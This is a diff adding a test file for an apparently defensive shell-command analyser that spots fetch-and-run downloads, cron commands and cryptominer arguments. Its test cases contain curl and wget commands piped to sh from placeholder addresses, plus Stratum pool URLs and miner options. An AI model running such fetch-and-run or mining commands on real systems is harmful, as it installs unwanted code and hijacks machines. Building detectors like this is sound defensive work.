@@ -1,0 +1,99 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { show } from '../show.ts';
+import { minerArguments } from '../verdict/miner-arguments.ts';
+import { commandFacts, cronCommand, meantPaths, plain, sameDownload } from './commands.ts';
+import { pipelinesOf } from './shell-words.ts';
+
+const runs = (command: string) => commandFacts(show(command)).runs;
+
+describe('commands', () => {
+  it('tell what they run, past wrappers, assignments and keywords', () => {
+    expect(runs('nohup /tmp/m >/dev/null 2>&1 &')).toEqual(['/tmp/m']);
+    expect(runs('A=1 B=2 nice -n 19 timeout 5 /tmp/m -x')).toEqual(['/tmp/m']);
+    expect(runs('if true; then sh /tmp/i.sh; fi')).toEqual(['true', '/tmp/i.sh']);
+    expect(runs('pgrep -f /tmp/m || /tmp/m')).toEqual(['pgrep', '/tmp/m']);
+    expect(runs('bash -c "exec /tmp/m --x"')).toEqual(['/tmp/m']);
+    expect(runs('echo $(/tmp/m) `/tmp/n`')).toEqual(['echo', '/tmp/m', '/tmp/n']);
+    expect(runs('. /tmp/env.sh && python3 /tmp/a.py')).toEqual(['/tmp/env.sh', '/tmp/a.py']);
+    expect(runs("echo '/tmp/m; /tmp/n' # /tmp/o")).toEqual(['echo']);
+  });
+
+  it('tell fetching and running from fetching', () => {
+    const both = (command: string) => commandFacts(show(command)).fetchesAndRuns;
+    expect(both('curl -fsSL http://198.51.100.7:8443/i.sh | sh')).toBe(true);
+    expect(both('wget -q -O- http://198.51.100.7:8443/i.sh | sh')).toBe(true);
+    expect(both('curl -s http://198.51.100.7/m -o /tmp/m && chmod +x /tmp/m && /tmp/m')).toBe(true);
+    expect(both('curl -fsS https://hc.example/ping >/dev/null # healthcheck')).toBe(false);
+    expect(both('curl -fsS https://hc.example/status | jq .ok')).toBe(false);
+    expect(both('/usr/local/bin/backup --target /srv/backup --quiet')).toBe(false);
+  });
+
+  it('of a crontab end at an unescaped percent sign', () => {
+    expect(plain(cronCommand(show('mail -s x root%hello\\%there')))).toBe('mail -s x root\nhello%there');
+  });
+
+  it('never fail to be read, and quoting keeps a word whole', () => {
+    fc.assert(
+      fc.property(fc.string(), (text) => {
+        expect(commandFacts(show(text)).names.every((name) => name.startsWith('/'))).toBe(true);
+      }),
+    );
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', minLength: 1 }), (word) => {
+        const quoted = `'${word.replaceAll("'", `'\\''`)}'`;
+        expect(pipelinesOf(`x ${quoted} y`)[0]?.[0]?.words).toEqual(['x', word, 'y']);
+      }),
+    );
+  });
+});
+
+describe('downloads', () => {
+  const address = { scheme: 'http', host: '203.0.113.9', port: 8443, path: '/i.sh' };
+  it('are the same by scheme, host and port; on shared hosting by path too', () => {
+    expect(sameDownload(address, { ...address, path: '/other' })).toBe(true);
+    expect(sameDownload(address, { ...address, port: 80 })).toBe(false);
+    const shared = { scheme: 'https', host: 'raw.githubusercontent.com', port: 443, path: '/a' };
+    expect(sameDownload(shared, { ...shared, path: '/b' })).toBe(false);
+    expect(sameDownload(shared, shared)).toBe(true);
+  });
+
+  it('under a name in between mean the file that they become', () => {
+    expect(meantPaths(['/tmp/ddg.2021.part'])).toContain('/tmp/ddg.2021');
+    expect(meantPaths(['/tmp/i.sh.orig'])).toEqual(['/tmp/i.sh.orig']);
+  });
+});
+
+describe('miner arguments', () => {
+  const pools = [{ host: 'pool.example', addresses: ['198.51.100.7'], ports: [] }];
+  const found = (line: string) => minerArguments(line.split(' '), pools);
+  const wallet = `4A${'DavyLabHarmLessStandin'.repeat(5)}`.slice(0, 95);
+
+  it('are Stratum addresses, miners’ options, algorithms, wallets and known pools', () => {
+    for (const line of [
+      '-o stratum+tcp://203.0.113.1:3333',
+      '--url=stratum+ssl://x.example:443',
+      '--donate-level=1',
+      '--algo=rx/0',
+      '-a cryptonight',
+      `-u ${wallet}`,
+      '-o eu.pool.example:3333',
+      '198.51.100.7:3333',
+    ]) {
+      expect(found(line), line).not.toEqual([]);
+    }
+  });
+
+  it('are not the arguments of honest programs', () => {
+    for (const line of [
+      '-D /srv/db --pool-size=10',
+      '-o /dev/null http://192.0.2.90:8080/x',
+      '--algo sha256',
+      '-a -u root',
+      '--url https://pooled.example:443',
+      '-c user.pool=5',
+    ]) {
+      expect(found(line), line).toEqual([]);
+    }
+  });
+});
